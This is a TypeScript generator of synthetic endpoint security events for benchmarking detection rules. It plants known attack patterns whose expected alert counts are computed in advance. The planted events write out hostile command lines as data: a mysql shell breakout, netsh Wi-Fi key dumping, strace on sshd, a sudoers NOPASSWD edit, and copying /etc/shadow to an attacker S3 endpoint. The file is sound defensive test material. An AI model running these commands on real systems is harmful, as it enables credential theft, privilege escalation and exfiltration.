/**
 * A deterministic generator of ECS endpoint events for benchmarks and hunt tests: process, network,
 * file, registry, DNS and authentication events from Linux, Windows and macOS hosts, with arrays in
 * `event.category`, `event.type` and `process.args`, parent/child entity ids, and planted attack
 * patterns whose expected alert counts are known (`plantedCounts`). Same seed, same bytes.
 */

export interface GenerateOptions {
  readonly events: number;
  readonly seed: number;
  /** Epoch ms of the first event (default 2026-11-23T00:00:00Z). */
  readonly start?: number;
  /** One planted attack per this many events (default 10,000; at least MIN_PLANT_EVERY, as a plant may be 15 events). */
  readonly plantEvery?: number;
}

/**
 * The planted patterns: which rule (by name) each one triggers. The first two are the bundled rules
 * (the seeds; the corpus's xp_cmdshell rule of that name is a new-terms rule, which the plant meets
 * too); the others are rules of Elastic's corpus: EQL's event query, sequence and sample, a KQL
 * query rule (sudoers), a threshold rule (15 kills) and a new-terms rule (the AWS CLI with a custom
 * endpoint, twice on one host: new the first time only). The RWX plant's binary is a known miner:
 * with `indicatorDocuments`, the corpus's hash indicator match rule finds it too.
 */
export const PLANTED_RULES = {
  mysql: 'Linux Restricted Shell Breakout via the mysql command',
  xpCmdshell: 'Execution via MSSQL xp_cmdshell Stored Procedure',
  straceSshd: 'Potential SSH Password Grabbing via strace',
  rwxNetwork: 'Network Connection from Binary with RWX Memory Region',
  netshWlan: 'Wireless Credential Dumping using Netsh Command',
  sudoersEcho: 'Potential Privilege Escalation via Sudoers File Modification',
  killBurst: 'High Number of Process Terminations',
  awsEndpoint: 'AWS CLI Command with Custom Endpoint URL',
} as const;

type PlantKind = keyof typeof PLANTED_RULES;
/** Plants take turns in this order. */
const PLANT_ORDER: readonly PlantKind[] = ['mysql', 'xpCmdshell', 'straceSshd', 'rwxNetwork', 'netshWlan', 'sudoersEcho', 'killBurst', 'awsEndpoint'];
/** Events per plant: one for an event query, two for the sequence, the sample and the new terms, 15 for the threshold. */
const PLANT_EVENTS: Readonly<Record<PlantKind, number>> = { mysql: 1, xpCmdshell: 1, straceSshd: 2, rwxNetwork: 2, netshWlan: 1, sudoersEcho: 1, killBurst: 15, awsEndpoint: 2 };
/** The smallest spacing of plants: the longest plant and one event. */
export const MIN_PLANT_EVERY = Math.max(...Object.values(PLANT_EVENTS)) + 1;
/**
 * Alerts per plant: an event query's match is one alert; a sequence's or a sample's is one alert of
 * its own and one building-block alert per event, as Kibana raises them; a threshold group's is one,
 * and a new term's one (its second event is not new).
 */
const plantAlerts = (kind: PlantKind): number => (kind === 'killBurst' || kind === 'awsEndpoint' || PLANT_EVENTS[kind] === 1 ? 1 : PLANT_EVENTS[kind] + 1);
/**
 * Alerts of rules other than the plant's own that a plant raises by design: the RWX plant's binary
 * is a known cryptominer, whose hash is an indicator (see indicatorDocuments).
 */
const OTHER_ALERTS: Partial<Record<PlantKind, Readonly<Record<string, number>>>> = { rwxNetwork: { 'Threat Intel Hash Indicator Match': 1 } };

/** The SHA-256 of the RWX plant's binary, an indicator of compromise (see indicatorDocuments). */
export const MINER_SHA256 = 'd8e9ae6a0e7b8e1c3e5b5f0b7a4c2d9e6f1a3b5c7d9e0f2a4b6c8d0e1f3a5b7c';

/**
 * Threat-intel indicator documents (as Elastic's threat-intel integrations store them) for the
 * generated events: the miner's hash, current (a day before the events), and two that must match
 * nothing: an indicator 40 days old for a hash the events do not carry, and a current one for
 * another hash. For `vigil hunt --indicators`, or to ingest into a `logs-ti_*` index.
 */
export function indicatorDocuments(options: { start?: number } = {}): string[] {
  const start = options.start ?? Date.parse('2026-11-23T00:00:00Z');
  const doc = (at: number, sha256: string, feed: string): string =>
    JSON.stringify({
      '@timestamp': new Date(at).toISOString(),
      event: { module: 'ti_abusech', dataset: 'ti_abusech.malware', category: ['threat'], kind: 'enrichment', type: ['indicator'] },
      threat: { feed: { name: feed }, indicator: { type: 'file', provider: 'abusech', file: { hash: { sha256 } } } },
    });
  return [doc(start - 86_400_000, MINER_SHA256, 'AbuseCH Malware'), doc(start - 40 * 86_400_000, 'f'.repeat(64), 'AbuseCH Malware'), doc(start - 86_400_000, 'e'.repeat(64), 'MalwareBazaar')];
}

/**
 * Plants whose rule alerts once per host (a threshold group, a new term): a second plant on a host
 * that had one raises no alert of its own.
 */
const ONCE_PER_HOST: ReadonlySet<PlantKind> = new Set(['killBurst', 'awsEndpoint']);
/** The host of a plant, as the remainder of its host number by 10 (0-4 Linux, 5-8 Windows, 9 macOS). */
const PLANT_HOST: Readonly<Record<PlantKind, number>> = { mysql: 0, xpCmdshell: 5, straceSshd: 1, rwxNetwork: 2, netshWlan: 6, sudoersEcho: 3, killBurst: 4, awsEndpoint: 4 };
/** Hosts the generator makes. */
const HOSTS = 500;
/** The host number of the plant at event `i`. */
const plantHost = (kind: PlantKind, i: number, every: number): number => ((i / every) * 10 + PLANT_HOST[kind]) % HOSTS;

/** mulberry32: small, fast, and the same everywhere. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

type Os = 'linux' | 'windows' | 'macos';
interface Host {
  readonly name: string;
  readonly id: string;
  readonly os: Os;
  readonly ip: string;
}

// [executable, args, parent executable]: benign activity with the parents it has in real life
const LINUX_PROCS: ReadonlyArray<readonly [string, readonly string[], string]> = [
  ['/usr/sbin/sshd', ['/usr/sbin/sshd', '-D'], '/usr/lib/systemd/systemd'],
  ['/usr/bin/python3', ['/usr/bin/python3', '/opt/app/worker.py', '--queue', 'default'], '/usr/lib/systemd/systemd'],
  ['/usr/sbin/cron', ['/usr/sbin/cron', '-f'], '/usr/lib/systemd/systemd'],
  ['/usr/sbin/nginx', ['/usr/sbin/nginx', '-g', 'daemon off;'], '/usr/lib/systemd/systemd'],
  ['/usr/bin/java', ['/usr/bin/java', '-Xmx2g', '-jar', '/opt/svc/app.jar'], '/usr/lib/systemd/systemd'],
  ['/usr/bin/ls', ['ls', '-la', '/var/log'], '/usr/bin/bash'],
  ['/usr/bin/grep', ['grep', '-r', 'ERROR', '/var/log/app'], '/usr/bin/bash'],
  ['/usr/bin/tar', ['tar', '-czf', '/backup/app.tgz', '/srv/app'], '/usr/bin/bash'],
];
const WINDOWS_PROCS: ReadonlyArray<readonly [string, readonly string[], string]> = [
  ['C:\\Windows\\System32\\svchost.exe', ['C:\\Windows\\System32\\svchost.exe', '-k', 'netsvcs', '-p'], 'C:\\Windows\\System32\\services.exe'],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', ['chrome.exe', '--type=renderer'], 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', ['OUTLOOK.EXE'], 'C:\\Windows\\explorer.exe'],
  ['C:\\Windows\\System32\\taskhostw.exe', ['taskhostw.exe'], 'C:\\Windows\\System32\\svchost.exe'],
  ['C:\\Program Files\\Microsoft SQL Server\\MSSQL15\\MSSQL\\Binn\\sqlservr.exe', ['sqlservr.exe', '-sMSSQLSERVER'], 'C:\\Windows\\System32\\services.exe'],
  ['C:\\Windows\\System32\\SearchIndexer.exe', ['SearchIndexer.exe', '/Embedding'], 'C:\\Windows\\System32\\services.exe'],
];
const MAC_PROCS: ReadonlyArray<readonly [string, readonly string[], string]> = [
  ['/Applications/Safari.app/Contents/MacOS/Safari', ['Safari'], '/sbin/launchd'],
  ['/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder', ['Finder'], '/sbin/launchd'],
  ['/usr/bin/mdls', ['mdls', '/Users/alice/Documents/report.pdf'], '/bin/zsh'],
];
const USERS = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'svc-backup', 'svc-web', 'root', 'SYSTEM'];
const DOMAINS = ['updates.example.com', 'cdn.example.net', 'api.example.org', 'mail.example.com', 'time.example.com'];
const base = (p: string): string => p.split(/[\\/]/).pop()!;

/**
 * The alerts each planted rule raises over the generated events, by rule name (a rule with no plant
 * is left out). Plants start at every multiple of `plantEvery` after 0 and take turns (PLANT_ORDER);
 * a plant of two events has its second at the next line, and one that would not fit is not planted.
 */
export function plantedCounts(options: GenerateOptions): Record<string, number> {
  const every = plantEvery(options);
  const out: Record<string, number> = {};
  const hostsHit = new Set<string>();
  let plants = 0;
  for (let i = every; i < options.events; i += every) {
    const kind = PLANT_ORDER[plants++ % PLANT_ORDER.length]!;
    if (i + PLANT_EVENTS[kind] > options.events) continue;
    if (ONCE_PER_HOST.has(kind)) {
      const key = `${kind}:${plantHost(kind, i, every)}`;
      if (hostsHit.has(key)) continue;
      hostsHit.add(key);
    }
    out[PLANTED_RULES[kind]] = (out[PLANTED_RULES[kind]] ?? 0) + plantAlerts(kind);
    for (const [name, n] of Object.entries(OTHER_ALERTS[kind] ?? {})) out[name] = (out[name] ?? 0) + n;
  }
  return out;
}

function plantEvery(options: GenerateOptions): number {
  const every = options.plantEvery ?? 10_000;
  if (!Number.isInteger(every) || every < MIN_PLANT_EVERY) throw new RangeError(`plantEvery must be an integer of at least ${MIN_PLANT_EVERY}, not ${every}`);
  return every;
}

/** Yields one NDJSON line (without newline) per event. */
export function* generateEvents(options: GenerateOptions): Generator<string> {
  const r = rng(options.seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
  const hosts: Host[] = Array.from({ length: HOSTS }, (_, i) => {
    const os: Os = i % 10 < 5 ? 'linux' : i % 10 < 9 ? 'windows' : 'macos';
    return { name: `${os === 'windows' ? 'WIN' : os === 'macos' ? 'mac' : 'lin'}-${String(i).padStart(4, '0')}`, id: `h${(i * 2654435761) >>> 0}`, os, ip: `10.${(i >> 8) & 255}.${i & 255}.${10 + (i % 200)}` };
  });
  const every = plantEvery(options);
  let t = options.start ?? Date.parse('2026-11-23T00:00:00Z');
  let plants = 0;
  /** The later events of a plant, one per next line. */
  const next: Array<(common: Record<string, unknown>) => string> = [];
  for (let i = 0; i < options.events; i++) {
    t += 1 + Math.floor(r() * 40);
    const ts = new Date(t).toISOString();
    const h = pick(hosts);
    const user = h.os === 'windows' && r() < 0.2 ? 'SYSTEM' : pick(USERS.slice(0, 8));
    const common = { '@timestamp': ts, agent: { type: 'endpoint', version: '8.17.0' }, host: { name: h.name, id: h.id, ip: [h.ip], os: { type: h.os, family: h.os === 'linux' ? 'debian' : h.os, platform: h.os } }, user: { name: user } };
    const entity = `${h.id}-${i}`;
    if (next.length > 0) {
      yield next.shift()!(common);
      continue;
    }
    if (i > 0 && i % every === 0) {
      const kind = PLANT_ORDER[plants++ % PLANT_ORDER.length]!;
      const two = PLANT_EVENTS[kind] > 1;
      // the attack happens on a host of the right kind; a plant of several events needs room for all
      if (i + PLANT_EVENTS[kind] <= options.events) {
        const target = hosts[plantHost(kind, i, every)]!;
        const hostOf = { name: target.name, id: target.id, ip: [target.ip], os: { type: target.os, family: target.os === 'linux' ? 'debian' : target.os, platform: target.os } };
        common.host = hostOf;
        // a plant's process of several events has a pid of its own: samples join on it
        const pid = two ? 50000 + plants : 30000 + (i % 1000);
        yield plantEvent(kind, common, entity, pid);
        // the later events: on the same host, by the same user, and by the same process where the rule joins on it
        const user = common.user;
        for (let k = 1; k < PLANT_EVENTS[kind]; k++) next.push((c) => plantFollowUp(kind, { ...c, host: hostOf, user }, entity, pid, k));
        continue;
      }
    }
    const kind = r();
    if (kind < 0.4) {
      const table = h.os === 'linux' ? LINUX_PROCS : h.os === 'windows' ? WINDOWS_PROCS : MAC_PROCS;
      const [exe, args, pexe] = pick(table);
      const start = r() < 0.7;
      yield JSON.stringify({
        ...common,
        event: { kind: 'event', category: ['process'], type: start ? ['start'] : ['end'], action: start ? 'exec' : 'end', dataset: 'endpoint.events.process' },
        process: { name: base(exe), executable: exe, pid: 1000 + Math.floor(r() * 60000), entity_id: entity, args: [...args], args_count: args.length, command_line: args.join(' '), parent: { name: base(pexe), executable: pexe, pid: 1000 + Math.floor(r() * 1000), entity_id: `${h.id}-p${Math.floor(r() * 50)}` } },
      });
    } else if (kind < 0.65) {
      const out = r() < 0.8;
      yield JSON.stringify({
        ...common,
        event: { kind: 'event', category: ['network'], type: out ? ['start', 'connection'] : ['end', 'connection'], action: out ? 'connection_attempted' : 'disconnect_received', dataset: 'endpoint.events.network' },
        source: { ip: h.ip, port: 30000 + Math.floor(r() * 30000) },
        destination: { ip: `192.0.2.${Math.floor(r() * 250)}`, port: pick([443, 443, 443, 80, 53, 5432, 6379]) },
        network: { transport: 'tcp', direction: 'egress' },
        process: { name: h.os === 'windows' ? 'chrome.exe' : 'curl', pid: 2000 + Math.floor(r() * 5000), entity_id: `${h.id}-n${Math.floor(r() * 100)}` },
      });
    } else if (kind < 0.85) {
      const dir = h.os === 'windows' ? `C:\\Users\\${user}\\AppData\\Local\\Temp` : `/tmp/app-${user}`;
      const name = `report-${Math.floor(r() * 10000)}.${pick(['log', 'csv', 'json'])}`;
      yield JSON.stringify({
        ...common,
        event: { kind: 'event', category: ['file'], type: [pick(['creation', 'change', 'deletion'])], dataset: 'endpoint.events.file' },
        file: { name, path: `${dir}${h.os === 'windows' ? '\\' : '/'}${name}`, extension: name.split('.').pop() },
        process: { name: h.os === 'windows' ? 'explorer.exe' : 'python3', pid: 3000 + Math.floor(r() * 5000), entity_id: `${h.id}-f${Math.floor(r() * 100)}` },
      });
    } else if (kind < 0.92) {
      const domain = pick(DOMAINS);
      yield JSON.stringify({ ...common, event: { kind: 'event', category: ['network'], type: ['protocol', 'info'], action: 'lookup_result', dataset: 'endpoint.events.network' }, dns: { question: { name: domain, type: 'A' }, resolved_ip: [`192.0.2.${Math.floor(r() * 250)}`] }, process: { name: h.os === 'windows' ? 'svchost.exe' : 'systemd-resolved', pid: 800 } });
    } else if (kind < 0.96 && h.os === 'windows') {
      yield JSON.stringify({
        ...common,
        event: { kind: 'event', category: ['registry'], type: ['change'], action: 'modification', dataset: 'endpoint.events.registry' },
        registry: { hive: 'HKCU', path: `HKEY_USERS\\S-1-5-21-1000\\Software\\Vendor\\App\\Settings\\Value${Math.floor(r() * 20)}`, value: `Value${Math.floor(r() * 20)}`, data: { strings: [String(Math.floor(r() * 100))] } },
        process: { name: 'explorer.exe', pid: 4000 },
      });
    } else {
      const ok = r() < 0.9;
      yield JSON.stringify({
        ...common,
        event: { kind: 'event', category: ['authentication'], type: ['start'], action: ok ? 'logged-in' : 'logon-failed', outcome: ok ? 'success' : 'failure', dataset: 'system.auth' },
        source: { ip: `10.${Math.floor(r() * 4)}.${Math.floor(r() * 250)}.${Math.floor(r() * 250)}` },
        process: { name: h.os === 'windows' ? 'lsass.exe' : 'sshd', pid: 600 },
      });
    }
  }
}

/** The first (or only) event of a plant. */
function plantEvent(kind: PlantKind, common: Record<string, unknown>, entity: string, pid: number): string {
  switch (kind) {
    case 'mysql':
      return JSON.stringify({ ...common, event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', dataset: 'endpoint.events.process' }, process: { name: 'bash', executable: '/bin/bash', pid, entity_id: entity, args: ['bash'], parent: { name: 'mysql', executable: '/usr/bin/mysql', args: ['mysql', '-u', 'app', '-e', '\\!/bin/bash'], entity_id: `${entity}-p` } } });
    case 'xpCmdshell':
      return JSON.stringify({ ...common, event: { kind: 'event', category: ['process'], type: ['start'], dataset: 'endpoint.events.process' }, process: { name: 'cmd.exe', executable: 'C:\\Windows\\System32\\cmd.exe', pe: { original_file_name: 'Cmd.Exe' }, pid: pid + 10000, entity_id: entity, args: ['cmd.exe', '/c', 'whoami /all'], command_line: 'cmd.exe /c whoami /all', parent: { name: 'sqlservr.exe', executable: 'C:\\Program Files\\Microsoft SQL Server\\MSSQL15\\MSSQL\\Binn\\sqlservr.exe', entity_id: `${entity}-p` } } });
    case 'straceSshd':
      // an SSH session's daemon ends, and strace starts on the host within the rule's 3 s
      return JSON.stringify({ ...common, event: { kind: 'event', category: ['process'], type: ['end'], action: 'end', dataset: 'endpoint.events.process' }, process: { name: 'sshd', executable: '/usr/sbin/sshd', pid, entity_id: entity, args: ['sshd: alice [priv]'], parent: { name: 'sshd', executable: '/usr/sbin/sshd', entity_id: `${entity}-p` } } });
    case 'rwxNetwork':
      // a process asks for read-write-execute memory (auditd's mprotect with protection 7) ...
      // (the binary is a known miner: its hash is an indicator)
      return JSON.stringify({ ...common, event: { kind: 'event', category: ['process'], type: ['info'], action: 'changed-memory-protection', dataset: 'auditd_manager.auditd' }, auditd: { data: { syscall: 'mprotect', a2: '7' } }, process: { name: 'kdevtmpfsi', executable: '/tmp/.x/kdevtmpfsi', pid, entity_id: entity, hash: { sha256: MINER_SHA256 } } });
    case 'netshWlan':
      return JSON.stringify({ ...common, event: { kind: 'event', category: ['process'], type: ['start'], action: 'start', dataset: 'endpoint.events.process' }, process: { name: 'netsh.exe', executable: 'C:\\Windows\\System32\\netsh.exe', pid: pid + 10000, entity_id: entity, args: ['netsh.exe', 'wlan', 'show', 'profile', 'name=CorpWifi', 'key=clear'], command_line: 'netsh.exe wlan show profile name=CorpWifi key=clear', parent: { name: 'cmd.exe', executable: 'C:\\Windows\\System32\\cmd.exe', entity_id: `${entity}-p` } } });
    case 'killBurst':
      // one of 15 processes killed by the same user with the same kill on one host (one alert, by the threshold)
      return JSON.stringify({ ...common, user: { name: 'root' }, event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', dataset: 'endpoint.events.process' }, process: { name: 'kill', executable: '/usr/bin/kill', pid, entity_id: entity, args: ['kill', '-9', String(pid + 100)], command_line: `kill -9 ${pid + 100}`, parent: { name: 'bash', executable: '/usr/bin/bash', entity_id: `${entity}-p` } } });
    case 'awsEndpoint':
      // the AWS CLI sent to an endpoint of the attacker's (the host's first: a new term; its second is not new)
      return JSON.stringify({ ...common, event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', dataset: 'endpoint.events.process' }, process: { name: 'aws', executable: '/usr/local/bin/aws', pid, entity_id: entity, args: ['aws', 's3', 'cp', '/etc/shadow', 's3://drop/x', '--endpoint-url', 'http://203.0.113.9:9000'], parent: { name: 'bash', executable: '/usr/bin/bash', entity_id: `${entity}-p` } } });
    case 'sudoersEcho':
      // a shell echoes a rule that lets a user run anything as root into sudoers
      return JSON.stringify({ ...common, event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', dataset: 'endpoint.events.process' }, process: { name: 'echo', executable: '/usr/bin/echo', pid, entity_id: entity, args: ['echo', 'svc-web ALL=(ALL) NOPASSWD:ALL'], parent: { name: 'bash', executable: '/usr/bin/bash', entity_id: `${entity}-p` } } });
  }
}

/** The `k`-th later event of a plant of several events (k from 1). */
function plantFollowUp(kind: PlantKind, common: Record<string, unknown>, entity: string, pid: number, k: number): string {
  if (kind === 'killBurst' || kind === 'awsEndpoint') return plantEvent(kind, common, `${entity}-${k}`, pid + k);
  if (kind === 'straceSshd')
    return JSON.stringify({ ...common, event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', dataset: 'endpoint.events.process' }, process: { name: 'strace', executable: '/usr/bin/strace', pid: pid + 1, entity_id: `${entity}-s`, args: ['strace', '-f', '-p', String(pid), '-e', 'trace=read,write'], parent: { name: 'bash', executable: '/usr/bin/bash', entity_id: `${entity}-p` } } });
  // ... then the same process connects out
  return JSON.stringify({ ...common, event: { kind: 'event', category: ['network'], type: ['start', 'connection'], action: 'connection_attempted', dataset: 'endpoint.events.network' }, source: { ip: '10.0.0.5', port: 40000 + (pid % 20000) }, destination: { ip: '203.0.113.77', port: 3333 }, network: { transport: 'tcp', direction: 'egress' }, process: { name: 'kdevtmpfsi', executable: '/tmp/.x/kdevtmpfsi', pid, entity_id: entity } });
}
